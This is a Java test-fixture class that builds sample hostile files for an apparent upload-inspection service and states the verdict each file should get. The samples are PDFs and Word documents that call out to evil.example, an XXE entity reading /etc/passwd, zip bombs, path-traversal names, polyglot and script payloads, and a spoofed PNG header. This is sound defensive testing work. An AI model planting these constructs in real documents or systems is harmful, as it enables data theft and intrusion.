package org.kapwa.inspection;

import java.awt.image.BufferedImage;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.zip.CRC32;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import javax.imageio.ImageIO;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.encryption.AccessPermission;
import org.apache.pdfbox.pdmodel.encryption.StandardProtectionPolicy;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionLaunch;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionURI;

/// A file made to be refused or flagged, or to look dangerous and not be.
///
/// @param expected verdict and reason
public record Specimen(String name, byte[] content, String expected) {

    private static final String TYPES =
            """
            <?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override \
            PartName="/word/document.xml" ContentType="%s.main+xml"/></Types>""";
    private static final String WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document";
    private static final String BODY =
            """
            <?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">\
            <w:body><w:p><w:r><w:t>Sit down and breathe.</w:t></w:r></w:p></w:body></w:document>""";

    public static List<Specimen> all() {
        return List.of(
                new Specimen("script.pdf", pdf(Specimen::addScript), "flagged pdf-script"),
                new Specimen("launch.pdf", pdf(Specimen::addLaunch), "flagged pdf-launch"),
                new Specimen("opens.pdf", pdf(Specimen::addAddress), "flagged opens-address"),
                new Specimen("locked.pdf", pdf(Specimen::lock), "refused encrypted"),
                new Specimen("half.pdf", half(pdf(document -> {})), "refused broken"),
                new Specimen("plain.pdf", pdf(document -> {}), "clean"),
                text("page.pdf", "<html><script>alert(1)</script>%PDF-1.4", "refused wrong-ending"),
                new Specimen("calm.docx", word(Map.of()), "clean"),
                new Specimen("macro.docx", word(Map.of("word/vbaProject.bin", bytes("VBA"))), "flagged macros"),
                new Specimen("template.docx", word(Map.of("word/_rels/settings.xml.rels", bytes(TEMPLATE))), "flagged outside-content"),
                new Specimen("entity.docx", word(Map.of("word/styles.xml", bytes("<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>"))), "refused xml-entities"),
                new Specimen("wide-entity.docx", word(Map.of("word/styles.xml", "\uFEFF<?xml version=\"1.0\" encoding=\"UTF-16\"?><!DOCTYPE a [<!ENTITY b \"c\">]><a>&b;</a>".getBytes(StandardCharsets.UTF_16LE))), "refused xml-entities"),
                new Specimen("half.docx", half(word(Map.of())), "refused broken"),
                new Specimen("bomb.docx", word(Map.of("word/media/white.bmp", new byte[60_000_000])), "refused bomb"),
                new Specimen("nested.docx", word(Map.of("word/media/more.zip", zip(Map.of("a.txt", bytes("a"))))), "refused nested-archive"),
                new Specimen("many.docx", word(many()), "refused bomb"),
                new Specimen("climbing.docx", word(Map.of("../../etc/cron.d/x", bytes("x"))), "refused broken"),
                new Specimen("pack.zip", zip(Map.of("a.txt", bytes("a"))), "refused archive"),
                new Specimen("pack.docx", zip(Map.of("a.txt", bytes("a"))), "refused archive"),
                new Specimen("word.pdf", word(Map.of()), "refused wrong-ending"),
                new Specimen("huge.png", hugePng(), "refused too-many-pixels"),
                new Specimen("half.jpg", half(jpeg()), "refused broken"),
                new Specimen("polyglot.gif", join(bytes("GIF89a/*"), bytes("*/=1;alert(1)")), "refused broken"),
                text("drawing.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>", "refused unknown-kind"),
                new Specimen("program.txt", join(bytes("MZ"), new byte[100]), "refused program"),
                text("eicar.com", StubClamd.EICAR, "refused unknown-kind"),
                text("page.html", "<html><body onload=\"alert(1)\">Hello there</body></html>", "flagged html-script"),
                text("calm.html", "<html><body><h1>Calm</h1><p>Breathe out.</p></body></html>", "clean"),
                text("object.rtf", "{\\rtf1 {\\object\\objemb{\\*\\objdata 0105}} Hello there}", "flagged attachments"),
                text("table.csv", "district,activities\nNorth,12\n", "clean"),
                text("../../../etc/passwd.txt", "Calm breathing helps.", "clean"),
                text("gnp.\u202Etxt.exe", "Not what it seems.", "refused unknown-kind"),
                text("c".repeat(300) + ".txt", "A long name.", "clean"));
    }

    private static final String TEMPLATE =
            """
            <?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">\
            <Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" \
            Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>""";

    private interface Change {
        void to(PDDocument document) throws IOException;
    }

    static byte[] word(Map<String, byte[]> more) {
        var parts = new LinkedHashMap<String, byte[]>();
        parts.put("[Content_Types].xml", bytes(TYPES.formatted(WORD)));
        parts.put("word/document.xml", bytes(BODY));
        parts.putAll(more);
        return zip(parts);
    }

    /// One with the small picture of its first page that writing programs put in; this one is hard to make small.
    public static byte[] wordWithPicture() {
        return word(Map.of("docProps/thumbnail.jpeg", jpeg()));
    }

    static byte[] zip(Map<String, byte[]> parts) {
        var bytes = new ByteArrayOutputStream();
        try (var zip = new ZipOutputStream(bytes)) {
            for (var part : parts.entrySet()) {
                zip.putNextEntry(new ZipEntry(part.getKey()));
                zip.write(part.getValue());
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return bytes.toByteArray();
    }

    static byte[] jpeg() {
        var picture = new BufferedImage(400, 300, BufferedImage.TYPE_INT_RGB);
        for (var x = 0; x < 400; x++) {
            for (var y = 0; y < 300; y++) {
                picture.setRGB(x, y, x * y * 31);
            }
        }
        return encoded(picture, "jpg");
    }

    static byte[] encoded(BufferedImage picture, String format) {
        var bytes = new ByteArrayOutputStream();
        try {
            ImageIO.write(picture, format, bytes);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return bytes.toByteArray();
    }

    private static byte[] pdf(Change change) {
        var bytes = new ByteArrayOutputStream();
        try (var document = new PDDocument()) {
            document.addPage(new PDPage());
            change.to(document);
            document.save(bytes);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return bytes.toByteArray();
    }

    private static void addScript(PDDocument document) {
        document.getDocumentCatalog().setOpenAction(new PDActionJavaScript("app.alert('hello')"));
    }

    private static void addLaunch(PDDocument document) {
        document.getDocumentCatalog().setOpenAction(new PDActionLaunch());
    }

    private static void addAddress(PDDocument document) {
        var action = new PDActionURI();
        action.setURI("http://evil.example/seen");
        document.getDocumentCatalog().setOpenAction(action);
    }

    private static void lock(PDDocument document) throws IOException {
        document.protect(new StandardProtectionPolicy("owner", "reader", new AccessPermission()));
    }

    private static Map<String, byte[]> many() {
        var parts = new LinkedHashMap<String, byte[]>();
        for (var i = 0; i < 10_001; i++) {
            parts.put("word/media/" + i, new byte[0]);
        }
        return parts;
    }

    /// Only its head says 50,000 × 50,000; nothing of that size is here.
    private static byte[] hugePng() {
        var png = encoded(new BufferedImage(1, 1, BufferedImage.TYPE_INT_RGB), "png");
        var size = new byte[] {0, 0, (byte) 0xC3, 0x50, 0, 0, (byte) 0xC3, 0x50};
        System.arraycopy(size, 0, png, 16, 8);
        var crc = new CRC32();
        crc.update(png, 12, 17);
        for (var i = 0; i < 4; i++) {
            png[29 + i] = (byte) (crc.getValue() >> (24 - 8 * i));
        }
        return png;
    }

    private static Specimen text(String name, String content, String expected) {
        return new Specimen(name, bytes(content), expected);
    }

    private static byte[] half(byte[] whole) {
        return Arrays.copyOf(whole, whole.length / 2);
    }

    private static byte[] join(byte[] first, byte[] second) {
        var both = Arrays.copyOf(first, first.length + second.length);
        System.arraycopy(second, 0, both, first.length, second.length);
        return both;
    }

    private static byte[] bytes(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }
}
